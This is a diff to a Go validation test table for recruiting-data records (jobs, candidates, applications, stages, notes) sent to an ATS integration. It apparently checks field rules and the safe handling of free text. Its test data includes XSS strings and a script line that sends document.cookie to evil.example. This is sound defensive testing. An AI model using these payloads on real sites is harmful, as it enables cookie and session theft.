@@ -135,7 +135,11 @@ func corpus() []row {
 		// §7.1 jobs.
 		{name: "job id empty", rule: "7.1 job externalJobPostingId required", job: func(j *rsc.JobPosting) { j.ExternalJobPostingID = "" }, field: "externalJobPostingId", why: "required"},
 		{name: "job id 201 chars", rule: "7.1 job externalJobPostingId max 200", job: func(j *rsc.JobPosting) { j.ExternalJobPostingID = strings.Repeat("j", 201) }, field: "externalJobPostingId", why: "at most 200"},
-		{name: "job no integration context", rule: "7.1 job integrationContext (or companyName/companyPageUrl) required", job: func(j *rsc.JobPosting) { j.IntegrationContext = "" }, field: "integrationContext", why: "required"},
+		{name: "job no integration context", rule: "7.1 job integrationContext required (RSC job)", job: func(j *rsc.JobPosting) { j.IntegrationContext = "" }, field: "integrationContext", why: "required"},
+		// RSC's required-fields page requires integrationContext on synced
+		// jobs: companyName does not stand in for it on a
+		// PRIVATE_TO_ATS_INTEGRATION job.
+		{name: "job RSC named by companyName", rule: "7.1 job integrationContext required (RSC job, companyName instead)", job: func(j *rsc.JobPosting) { j.IntegrationContext, j.CompanyName = "", "Acme" }, field: "integrationContext", why: "required"},
 		{name: "job company URN", rule: "7.1 job integrationContext urn:li:organization:{id}", job: func(j *rsc.JobPosting) { j.IntegrationContext = "urn:li:company:4242" }, field: "integrationContext", why: "urn:li:organization:"},
 		{name: "job apply url not a URL", rule: "7.1 job companyApplyUrl valid URL", job: func(j *rsc.JobPosting) { j.CompanyApplyURL = "not a url" }, field: "companyApplyUrl", why: "URL"},
 		{name: "job apply url javascript", rule: "7.1 job companyApplyUrl valid URL", job: func(j *rsc.JobPosting) { j.CompanyApplyURL = "javascript:alert(1)" }, field: "companyApplyUrl", why: "URL"},
@@ -163,6 +167,9 @@ func corpus() []row {
 		{name: "job compensation period bad", rule: "7.1 job compensation period/type enums", job: func(j *rsc.JobPosting) {
 			j.Compensation = []byte(`{"compensations":[{"value":{"exactAmount":{"amount":"100","currencyCode":"USD"}},"period":"FORTNIGHTLY","type":"BASE_SALARY"}]}`)
 		}, field: "compensation", why: "period"},
+		{name: "job compensation amount number", rule: "7.1 job compensation amount is a string", job: func(j *rsc.JobPosting) {
+			j.Compensation = []byte(`{"compensations":[{"value":{"exactAmount":{"amount":100,"currencyCode":"USD"}},"period":"YEARLY","type":"BASE_SALARY"}]}`)
+		}, field: "compensation.compensations[0].value.exactAmount.amount", why: "string"},
 		{name: "job compensation invalid JSON", rule: "7.1 job compensation shape", job: func(j *rsc.JobPosting) { j.Compensation = []byte(`{"compensations":`) }, field: "compensation", why: "JSON"},
 		{name: "job description script", rule: "7.1 job description HTML (other tags stripped by LinkedIn)", good: true, job: func(j *rsc.JobPosting) {
 			j.Description = "<p>We <b>ship</b>.</p><script>alert('x')</script><img src=x onerror=alert(1)>" + longDescr
@@ -177,7 +184,8 @@ func corpus() []row {
 		{name: "cand context trailing space", rule: "3.1 candidate integrationContext urn:li:organization:{id}", cand: func(c *rsc.Candidate) { c.Key.IntegrationContext = org + " " }, field: "integrationContext", why: "URN"},
 		{name: "app context no id", rule: "3.1 application integrationContext urn:li:organization:{id}", app: func(a *rsc.Application) { a.Key.IntegrationContext = "urn:li:organization:" }, field: "integrationContext", why: "URN"},
 		{name: "cand firstName empty", rule: "7.2 candidate firstName required", cand: func(c *rsc.Candidate) { c.FirstName = "" }, field: "firstName", why: "required"},
-		{name: "cand firstName blank", rule: "7.2 candidate firstName min length 1 (blank)", cand: func(c *rsc.Candidate) { c.FirstName = " \t " }, field: "firstName", why: "required"},
+		// "min length 1" counts white space: a blank firstName is valid.
+		{name: "cand firstName blank", rule: "7.2 candidate firstName min length 1 (white space counts)", good: true, cand: func(c *rsc.Candidate) { c.FirstName = " \t " }},
 		{name: "cand firstName 1 MB", rule: "7.2 candidate firstName length (1 MB)", cand: func(c *rsc.Candidate) { c.FirstName = megabyte }, field: "firstName", why: "at most"},
 		{name: "cand firstName NUL", rule: "7.2 candidate firstName text (NUL)", cand: func(c *rsc.Candidate) { c.FirstName = "Ann\x00" }, field: "firstName", why: "control character"},
 		{name: "cand lastName invalid UTF-8", rule: "7.2 candidate lastName text (invalid UTF-8)", cand: func(c *rsc.Candidate) { c.LastName = "Le\xffe" }, field: "lastName", why: "UTF-8"},
@@ -199,7 +207,10 @@ func corpus() []row {
 		{name: "cand created seconds", rule: "7.2 candidate atsCreatedAt epoch ms (not seconds)", cand: func(c *rsc.Candidate) { c.CreatedAt = seconds }, field: "atsCreatedAt", why: "seconds"},
 		{name: "cand modified zero", rule: "7.2 candidate atsLastModifiedAt > 0", cand: func(c *rsc.Candidate) { c.LastModifiedAt = 0 }, field: "atsLastModifiedAt", why: "> 0"},
 		{name: "cand modified before created", rule: "7.2 candidate atsLastModifiedAt >= atsCreatedAt", cand: func(c *rsc.Candidate) { c.CreatedAt, c.LastModifiedAt = modified, created }, field: "atsLastModifiedAt", why: ">= atsCreatedAt"},
-		{name: "cand modified future", rule: "7.2 candidate atsLastModifiedAt not in the future", cand: func(c *rsc.Candidate) { c.LastModifiedAt = future }, field: "atsLastModifiedAt", why: "future"},
+		// LinkedIn's rules for atsCreatedAt/atsLastModifiedAt are > 0 and
+		// modified >= created; only a job's listedAt must not be in the
+		// future, so records ahead of the clock are valid.
+		{name: "cand modified future", rule: "7.2 candidate atsLastModifiedAt may be in the future", good: true, cand: func(c *rsc.Candidate) { c.LastModifiedAt = future }},
 		{name: "cand area type bad", rule: "7.2 candidate addresses geographicAreaType STATE|PROVINCE", cand: func(c *rsc.Candidate) { c.Addresses[0].GeographicAreaType = "COUNTY" }, field: "geographicAreaType", why: "one of"},
 		{name: "cand phone empty number", rule: "7.2 candidate phoneNumbers number", cand: func(c *rsc.Candidate) { c.PhoneNumbers = []rsc.PhoneNumber{{Extension: "12"}} }, field: "phoneNumbers[0].number", why: "required"},
 		{name: "cand unicode and HTML names", rule: "7.2 candidate names unicode", good: true, cand: func(c *rsc.Candidate) {
@@ -208,6 +219,10 @@ func corpus() []row {
 			c.CurrentCompanyName = "\u202eevil\u202c Corp" // bidi override: not a control character
 		}},
 		{name: "cand empty lists", rule: "7.2 candidate addresses/phoneNumbers required, may be []", good: true, cand: func(c *rsc.Candidate) { c.Addresses, c.PhoneNumbers = nil, nil }},
+		{name: "cand long names", rule: "7.2 candidate names and title (no length limit documented)", good: true, cand: func(c *rsc.Candidate) {
+			c.LastName, c.CurrentJobTitle, c.Addresses[0].City = strings.Repeat("l", 256), strings.Repeat("t", 1000), strings.Repeat("c", 256)
+			c.PhoneNumbers[0].Number = strings.Repeat("5", 65)
+		}},
 
 		// §7.4 applications.
 		{name: "app id empty", rule: "3.1 application atsJobApplicationId required", app: func(a *rsc.Application) { a.Key.ApplicationID = "" }, field: "atsJobApplicationId", why: "empty"},
@@ -220,7 +235,7 @@ func corpus() []row {
 		{name: "app created zero", rule: "7.4 application atsCreatedAt > 0", app: func(a *rsc.Application) { a.CreatedAt = 0 }, field: "atsCreatedAt", why: "> 0"},
 		{name: "app created seconds", rule: "7.4 application atsCreatedAt epoch ms (not seconds)", app: func(a *rsc.Application) { a.CreatedAt = seconds }, field: "atsCreatedAt", why: "seconds"},
 		{name: "app modified before created", rule: "7.4 application atsLastModifiedAt >= atsCreatedAt", app: func(a *rsc.Application) { a.CreatedAt, a.LastModifiedAt = modified, created }, field: "atsLastModifiedAt", why: ">= atsCreatedAt"},
-		{name: "app modified future", rule: "7.4 application atsLastModifiedAt not in the future", app: func(a *rsc.Application) { a.LastModifiedAt = future }, field: "atsLastModifiedAt", why: "future"},
+		{name: "app modified future", rule: "7.4 application atsLastModifiedAt may be in the future (no such rule)", good: true, app: func(a *rsc.Application) { a.LastModifiedAt = future }},
 		{name: "app disposition 1 MB", rule: "7.4 application dispositionReason text (1 MB)", app: func(a *rsc.Application) { a.DispositionReason = megabyte }, field: "dispositionReason", why: "at most"},
 		{name: "app source NUL", rule: "7.4 application source text (NUL)", app: func(a *rsc.Application) { a.Source = "Referral\x00" }, field: "source", why: "control character"},
 		{name: "app empty disposition", rule: "7.4 application full replace (empty strings sent)", good: true, app: func(a *rsc.Application) { a.DispositionReason, a.Source = "", "" }},
@@ -231,10 +246,11 @@ func corpus() []row {
 		{name: "stage Not Available", rule: "7.6 stage != \"Not Available\"", stage: func(s *rsc.Stage) { s.Stage = "Not Available" }, field: "stage", why: "Not Available"},
 		{name: "stage created zero", rule: "7.6 stage atsCreatedAt > 0", stage: func(s *rsc.Stage) { s.CreatedAt = 0 }, field: "atsCreatedAt", why: "> 0"},
 		{name: "stage created seconds", rule: "7.6 stage atsCreatedAt epoch ms (not seconds)", stage: func(s *rsc.Stage) { s.CreatedAt = seconds }, field: "atsCreatedAt", why: "seconds"},
-		{name: "stage created future", rule: "7.6 stage atsCreatedAt not in the future", stage: func(s *rsc.Stage) { s.CreatedAt = future }, field: "atsCreatedAt", why: "future"},
+		{name: "stage created future", rule: "7.6 stage atsCreatedAt may be in the future (no such rule)", good: true, stage: func(s *rsc.Stage) { s.CreatedAt = future }},
 		{name: "stage 1 MB", rule: "7.6 stage text (1 MB)", stage: func(s *rsc.Stage) { s.Stage = megabyte }, field: "stage", why: "at most"},
 		{name: "stage NUL", rule: "7.6 stage text (NUL)", stage: func(s *rsc.Stage) { s.Stage = "Hired\x00" }, field: "stage", why: "control character"},
 		{name: "stage unicode", rule: "7.6 stage free text", good: true, stage: func(s *rsc.Stage) { s.Stage = "Offre acceptée ✅ (final, 100%)" }},
+		{name: "stage 256 chars", rule: "7.6 stage free text (no length limit documented)", good: true, stage: func(s *rsc.Stage) { s.Stage = strings.Repeat("s", 256) }},
 
 		// §7.3 candidate notes (on candidate C-base).
 		{name: "cnote id empty", rule: "3.1 candidate note id required", cnote: func(n *rsc.Note) { n.ID = "" }, field: "id", why: "required", alone: true},
@@ -243,12 +259,13 @@ func corpus() []row {
 		{name: "cnote NUL", rule: "7.3 candidate note text (NUL)", cnote: func(n *rsc.Note) { n.Note = "a\x00b" }, field: "note", why: "control character"},
 		{name: "cnote author no last name", rule: "7.3 candidate note author lastName required", cnote: func(n *rsc.Note) { n.Author.LastName = "" }, field: "author.lastName", why: "required"},
 		{name: "cnote created seconds", rule: "7.3 candidate note atsCreatedAt epoch ms (not seconds)", cnote: func(n *rsc.Note) { n.CreatedAt = seconds }, field: "atsCreatedAt", why: "seconds"},
-		{name: "cnote created future", rule: "7.3 candidate note atsCreatedAt not in the future", cnote: func(n *rsc.Note) { n.CreatedAt = future }, field: "atsCreatedAt", why: "future"},
+		{name: "cnote created future", rule: "7.3 candidate note atsCreatedAt may be in the future (no such rule)", good: true, cnote: func(n *rsc.Note) { n.CreatedAt = future }},
 		{name: "cnote script", rule: "7.3 candidate note free text (HTML/script)", good: true, cnote: func(n *rsc.Note) {
 			n.Note = `<script>fetch("https://evil.example/?c="+document.cookie)</script><img src=x onerror=alert(1)> "quoted" & 'single' \ backslash`
 		}},
 		{name: "cnote multiline unicode", rule: "7.3 candidate note free text (unicode, newlines)", good: true, cnote: func(n *rsc.Note) { n.Note = "Línea 1\r\nLigne 2\t🙂\n第三行" }},
 		{name: "cnote no author", rule: "7.3 candidate note author optional", good: true, cnote: func(n *rsc.Note) { n.Author = nil }},
+		{name: "cnote 40000 chars", rule: "7.3 candidate note free text (no length limit documented)", good: true, cnote: func(n *rsc.Note) { n.Note = strings.Repeat("n", 40000) }},
 
 		// §7.5 application notes and interview feedback (on application A-base).
 		{name: "anote id empty", rule: "3.1 application note id required", anote: func(n *rsc.Note) { n.ID = "" }, field: "id", why: "required", alone: true},
